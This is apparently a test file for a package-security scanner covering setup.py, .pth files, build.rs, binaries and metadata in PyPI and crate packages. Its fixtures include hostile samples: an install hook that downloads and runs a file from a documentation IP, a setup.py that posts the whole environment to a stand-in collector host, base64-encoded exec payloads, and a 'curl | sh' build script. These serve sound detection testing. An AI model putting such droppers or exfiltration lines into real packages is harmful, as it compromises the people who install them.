"""PyPI sdists / wheels and crates: setup.py, .pth start-up files, build.rs, binaries, metadata."""

from __future__ import annotations

import base64

from scanners.models import Severity
from scanners.packages import analyze_package
from tests.scanners.packages.build import crate_snapshot, rules_of, sdist_snapshot, wheel_snapshot

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56 + bytes(range(256)) * 4


def severity_of(findings, rule: str) -> Severity:  # type: ignore[no-untyped-def]
    return max((t.severity for t in findings.threats if t.rule == rule), key=lambda s: s.rank)


# --- setup.py --------------------------------------------------------------------------------------------

SETUP_EXTENSIONS = """import os
import subprocess
from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext


class CMakeBuild(build_ext):
    def build_extension(self, ext):
        os.makedirs(self.build_temp, exist_ok=True)
        subprocess.check_call(["cmake", ext.sourcedir, "-DCMAKE_BUILD_TYPE=Release"], cwd=self.build_temp)
        subprocess.check_call(["cmake", "--build", "."], cwd=self.build_temp)


exec(open(os.path.join("fastpkg", "_version.py")).read())
setup(
    name="fastpkg",
    version=__version__,
    ext_modules=[Extension("fastpkg._speedups", ["src/speedups.c"])],
    cmdclass={"build_ext": CMakeBuild},
)
"""


def test_setup_py_with_extensions_is_benign() -> None:
    findings = analyze_package(sdist_snapshot("fastpkg", {"setup.py": SETUP_EXTENSIONS, "fastpkg/__init__.py": ""}))
    assert findings.threats == []


SETUP_DROPPER = """import os, urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        urllib.request.urlretrieve("http://203.0.113.20/update", "/tmp/.cache-update")
        os.chmod("/tmp/.cache-update", 0o755)
        os.system("/tmp/.cache-update &")


setup(name="colourama", version="1.0.0", cmdclass={"install": PostInstall})
"""


def test_setup_py_download_and_run() -> None:
    findings = analyze_package(sdist_snapshot("colourama", {"setup.py": SETUP_DROPPER}))
    assert severity_of(findings, "pkg/install-hook-download-exec") is Severity.CRITICAL
    assert "pkg/typosquat-edit" in rules_of(findings)  # colourama ~ colorama


SETUP_ENV_EXFIL = """import json, os, requests
from setuptools import setup

requests.post("https://collector.example.net/ctx", data=json.dumps(dict(os.environ)))
setup(name="ctxhelper", version="1.0.0")
"""


def test_setup_py_sends_environment() -> None:
    findings = analyze_package(sdist_snapshot("ctxhelper", {"setup.py": SETUP_ENV_EXFIL}))
    hit = next(t for t in findings.threats if t.rule == "pkg/install-hook-exfiltration")
    assert hit.severity is Severity.CRITICAL and "the whole environment" in hit.detail


def test_setup_py_exec_of_base64() -> None:
    payload = base64.b64encode(b"import os; os.system('id')").decode()
    code = f"import base64\nfrom setuptools import setup\nexec(base64.b64decode('{payload}'))\nsetup(name='quiet')\n"
    findings = analyze_package(sdist_snapshot("quiet", {"setup.py": code}))
    assert severity_of(findings, "pkg/install-hook-inline-eval") is Severity.CRITICAL


def test_setup_py_network_only_is_medium() -> None:
    code = "import urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('https://example.org/ping')\nsetup(name='pinger')\n"
    findings = analyze_package(sdist_snapshot("pinger", {"setup.py": code}))
    assert severity_of(findings, "pkg/setup-py-executes") is Severity.MEDIUM


# --- .pth start-up files -----------------------------------------------------------------------------------

def test_pth_with_encoded_payload() -> None:
    payload = base64.b64encode(b"import urllib.request;urllib.request.urlopen('https://collector.example.net')").decode()
    pth = f"import base64;exec(base64.b64decode('{payload}'))\n"
    findings = analyze_package(wheel_snapshot("speedtools", {"speedtools/__init__.py": "", "speedtools-init.pth": pth}))
    assert severity_of(findings, "pkg/pth-executes-code") is Severity.CRITICAL


def test_benign_pth_files() -> None:
    files = {
        "distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'\n",
        "nsp-nspkg.pth": "import sys, types, os;has_mfs = sys.version_info > (3, 5)\n",
        "paths.pth": "./vendor\n",
        "nsp/__init__.py": "",
    }
    assert analyze_package(wheel_snapshot("nsp", files)).threats == []


def test_plain_import_pth_is_low() -> None:
    findings = analyze_package(wheel_snapshot("autohook", {"autohook.pth": "import autohook_boot\n", "autohook_boot.py": ""}))
    assert severity_of(findings, "pkg/pth-startup-hook") is Severity.LOW


# --- wheels: binaries and metadata ------------------------------------------------------------------------

def test_elf_in_pure_wheel_is_unexplained() -> None:
    findings = analyze_package(wheel_snapshot("puretool", {"puretool/__init__.py": "", "puretool/bin/helper": ELF}))
    assert severity_of(findings, "pkg/unexplained-binary") is Severity.HIGH


def test_shared_object_in_platform_wheel_is_fine() -> None:
    snap = wheel_snapshot("fastjson", {"fastjson/__init__.py": "", "fastjson/_core.cpython-311-x86_64-linux-gnu.so": ELF},
                          tag="cp311-cp311-manylinux_2_17_x86_64", purelib=False)
    assert analyze_package(snap).threats == []


def test_wheel_metadata_mismatch() -> None:
    snap = wheel_snapshot("goodname", {"goodname/__init__.py": ""})
    files = dict(snap.artifact or {})
    files["goodname-1.0.0.dist-info/METADATA"] = b"Metadata-Version: 2.1\nName: othername\nVersion: 6.6.6\n"
    findings = analyze_package(snap.model_copy(update={"artifact": files}))
    assert [t.rule for t in findings.threats].count("pkg/manifest-mismatch") == 2


def test_wheel_metadata_normalised_name_matches() -> None:
    snap = wheel_snapshot("Good_Name", {"good_name/__init__.py": ""})
    assert analyze_package(snap).threats == []


# --- crates -------------------------------------------------------------------------------------------------

def test_build_rs_with_cc_is_benign() -> None:
    build = 'fn main() {\n    cc::Build::new().file("src/shim.c").compile("shim");\n    println!("cargo:rerun-if-changed=src/shim.c");\n' \
            '    let out = std::process::Command::new("git").args(["rev-parse", "HEAD"]).output();\n    let _ = out;\n}\n'
    assert analyze_package(crate_snapshot("shimlib", {"build.rs": build, "src/lib.rs": "pub fn f() {}\n"})).threats == []


def test_build_rs_downloads_and_runs() -> None:
    build = 'use std::process::Command;\nfn main() {\n    Command::new("sh").arg("-c").arg("curl -sSf https://203.0.113.5/x | sh").status().unwrap();\n}\n'
    findings = analyze_package(crate_snapshot("shimlib", {"build.rs": build, "src/lib.rs": ""}))
    assert severity_of(findings, "pkg/install-hook-download-exec") is Severity.CRITICAL


def test_build_rs_fetching_a_library_is_medium() -> None:
    build = 'fn main() {\n    let bytes = ureq::get("https://downloads.example.org/lib-1.2.tar.gz").call().unwrap();\n    let _ = bytes;\n}\n'
    findings = analyze_package(crate_snapshot("bigml-sys", {"build.rs": build, "src/lib.rs": ""}))
    assert severity_of(findings, "pkg/build-script-network") is Severity.MEDIUM


def test_crate_manifest_mismatch() -> None:
    snap = crate_snapshot("tidy", {"src/lib.rs": ""})
    files = dict(snap.artifact or {})
    files["Cargo.toml"] = b'[package]\nname = "tidy"\nversion = "9.0.0"\n'
    findings = analyze_package(snap.model_copy(update={"artifact": files}))
    assert "pkg/manifest-mismatch" in rules_of(findings)


def test_crate_with_executable() -> None:
    findings = analyze_package(crate_snapshot("tidy", {"src/lib.rs": "", "tools/helper.exe": ELF}))
    assert severity_of(findings, "pkg/unexplained-binary") is Severity.HIGH


def test_pth_inside_a_package_directory_is_inert() -> None:
    pth = "import os; os.system('id')\n"
    assert analyze_package(wheel_snapshot("inert", {"inert/__init__.py": "", "inert/extra.pth": pth})).threats == []
    assert "pkg/pth-executes-code" in rules_of(analyze_package(wheel_snapshot("inert", {"inert/__init__.py": "", "inert.pth": pth})))
